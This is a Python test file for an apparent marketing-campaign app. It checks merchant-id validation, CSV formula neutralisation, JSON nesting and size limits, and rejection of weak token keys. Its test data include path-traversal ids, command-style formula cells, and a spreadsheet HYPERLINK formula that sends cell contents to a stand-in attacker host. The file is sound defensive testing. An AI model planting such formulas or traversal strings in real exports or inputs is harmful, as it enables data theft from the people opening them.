"""The shared guards: merchant id grammar, formula-safe CSV, JSON depth and size limits, the one token key loader."""

from __future__ import annotations

import base64
import csv
import io
import time

import polars as pl
import pytest
from cryptography.fernet import Fernet

from campaigns.audiences.suppression import MissingUnsubscribeKeyError, UnsubscribeClaim, UnsubscribeSigner, signer_from_settings
from campaigns.core import json_input
from campaigns.core.crypto import MissingTokenKeyError, TokenCipher, TokenKeyError, cipher_from_settings, token_keys
from campaigns.core.identifiers import InvalidMerchantIdError, is_merchant_id, validate_merchant_id
from campaigns.core.merchants import UnknownMerchantError, add_or_update_merchant, ensure_merchant, require_merchant
from campaigns.core.safe_csv import csv_bytes, looks_like_formula, neutralise, safe_frame, write_csv
from campaigns.core.settings import Settings
from campaigns.core.store.db import session_scope
from campaigns.email.tracking import TrackingSigner
from campaigns.email.tracking_events import TrackingConfigError, tracker_from_settings

KEY = Fernet.generate_key().decode()


# --- merchant ids ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("good", ["demo", "acme", "shop-2", "a", "0", "a_b", "x" * 40])
def test_ids_in_the_grammar(good: str) -> None:
    assert validate_merchant_id(good) == good and is_merchant_id(good)


@pytest.mark.parametrize("bad", ["", "../../outside", "x/y", "*", "Acme", "-x", "_x", "a b", "x" * 41, "é", "a\n", None, 7])
def test_ids_outside_the_grammar(bad: object) -> None:
    with pytest.raises(InvalidMerchantIdError, match="is not valid; use 1 to 40 characters"):
        validate_merchant_id(bad)


def test_a_huge_id_is_shortened_in_the_message() -> None:
    with pytest.raises(InvalidMerchantIdError) as info:
        validate_merchant_id("a" * 5_000_000)
    assert len(str(info.value)) < 300 and "5,000,000 characters" in str(info.value)


def test_settings_refuse_a_bad_default_merchant() -> None:
    with pytest.raises(ValueError, match="default_merchant"):
        Settings(default_merchant="../x")


def test_merchant_services_check_ids_and_never_list_others(store_url: str) -> None:
    with session_scope(store_url) as s:
        ensure_merchant(s, "initech", "Initech")
        ensure_merchant(s, "globex", "Globex")
        with pytest.raises(InvalidMerchantIdError):
            ensure_merchant(s, "../x")
        with pytest.raises(InvalidMerchantIdError):
            require_merchant(s, "*")
        with pytest.raises(UnknownMerchantError) as info:
            require_merchant(s, "nosuch")
        assert "globex" not in str(info.value) and "initech" not in str(info.value)
        unchanged = add_or_update_merchant(s, "initech", None, None)
        assert not unchanged.created and unchanged.changed == {}
        changed = add_or_update_merchant(s, "initech", "Initech Ltd", "Europe/Berlin", actor="t")
        assert changed.changed == {"name": ("Initech", "Initech Ltd"), "timezone": ("UTC", "Europe/Berlin")}
        assert add_or_update_merchant(s, "hooli", "Hooli").created
        with pytest.raises(ValueError, match="merchant name"):
            add_or_update_merchant(s, "initech", " ", None)


# --- CSV -------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@cmd", "\t=x", "\r=x", '=HYPERLINK("http://evil.example/?l="&A1,"x")'])
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert looks_like_formula(cell) and neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["email", "", "a=b", "1-2", None, -2.5, 3])
def test_other_cells_are_unchanged(cell: object) -> None:
    assert neutralise(cell) == cell


def test_write_csv_neutralises_text_columns_and_keeps_numbers() -> None:
    frame = pl.DataFrame({"channel": ["=cmd()", "email", None, "a,b\n\"c\""], "revenue": [-1.5, 2.0, 3.0, 4.0],
                          "kind": pl.Series(["-x", "y", "z", "w"], dtype=pl.Categorical)})
    rows = list(csv.reader(io.StringIO(write_csv(frame))))
    assert rows[1:] == [["'=cmd()", "-1.5", "'-x"], ["email", "2.0", "y"], ["", "3.0", "z"], ['a,b\n"c"', "4.0", "w"]]
    assert safe_frame(frame)["revenue"].to_list() == [-1.5, 2.0, 3.0, 4.0]
    assert csv_bytes(frame).decode().splitlines()[1] == "'=cmd(),-1.5,'-x"  # what the app's download buttons send


# --- JSON ------------------------------------------------------------------------------------------------------------
def test_depth_counts_brackets_outside_strings_only() -> None:
    assert json_input.nesting_depth('{"a": [1, {"b": "[[[[{{"}], "c": "\\"]]"}') == 3
    assert json_input.nesting_depth("12") == 0
    assert json_input.loads('{"a": [1, 2]}') == {"a": [1, 2]}


def test_deep_json_is_refused_before_parsing_and_fast() -> None:
    started = time.perf_counter()
    with pytest.raises(json_input.JsonInputError, match="rules.json: JSON nested 100,000 levels deep; at most 64"):
        json_input.loads("[" * 100_000 + "]" * 100_000, what="rules.json")
    assert time.perf_counter() - started < 2
    assert json_input.loads("[" * 64 + "]" * 64) is not None


def test_size_and_syntax_errors_name_the_limit_and_the_place() -> None:
    with pytest.raises(json_input.JsonInputError, match="at most 10 are read"):
        json_input.loads('{"a": "0123456789"}', max_bytes=10)
    with pytest.raises(json_input.JsonInputError, match="not valid JSON: Expecting value at line 1, column 7"):
        json_input.loads('{"a": }')
    with pytest.raises(json_input.JsonInputError, match="not UTF-8"):
        json_input.loads(b'{"a": "\xff"}')


# --- the token key loader -------------------------------------------------------------------------------------------
WEAK = ["a", "secret", "0" * 44, base64.urlsafe_b64encode(bytes(32)).decode(), base64.urlsafe_b64encode(b"ab" * 16).decode()]


@pytest.mark.parametrize("weak", WEAK)
def test_every_use_refuses_the_same_weak_keys(weak: str) -> None:
    for build in (TokenCipher, UnsubscribeSigner, TrackingSigner.from_keys, token_keys):
        with pytest.raises(TokenKeyError, match="CAMPAIGNS_TOKEN_KEY") as info:
            build(weak)
        assert len(weak) < 8 or weak not in str(info.value)  # never the key itself
    with pytest.raises(TokenKeyError):
        signer_from_settings(Settings(token_key=weak))
    with pytest.raises(TokenKeyError):
        cipher_from_settings(Settings(token_key=weak))
    with pytest.raises(TrackingConfigError, match="CAMPAIGNS_TOKEN_KEY"):
        tracker_from_settings(Settings(token_key=weak, public_url="https://x.example"))


def test_a_weak_key_in_a_rotation_list_is_named_by_position() -> None:
    with pytest.raises(TokenKeyError, match="key 2 of 2 in CAMPAIGNS_TOKEN_KEY is not a Fernet key"):
        token_keys(f"{KEY},a")


def test_good_keys_work_for_every_use() -> None:
    newer = Fernet.generate_key().decode()
    assert token_keys(f" {newer} , {KEY} ") == (newer, KEY)
    assert TokenCipher(f"{newer},{KEY}").decrypt(TokenCipher(KEY).encrypt("t")) == "t"
    token = UnsubscribeSigner(KEY).sign(UnsubscribeClaim("acme", 1))
    assert signer_from_settings(Settings(token_key=f"{newer},{KEY}")).verify(token).contact_id == 1
    assert TrackingSigner.from_keys((newer, KEY)).send_id(TrackingSigner.from_keys(KEY).token(5)) == 5
    with pytest.raises(MissingTokenKeyError):
        token_keys(" , ")
    with pytest.raises(MissingUnsubscribeKeyError):
        UnsubscribeSigner("")
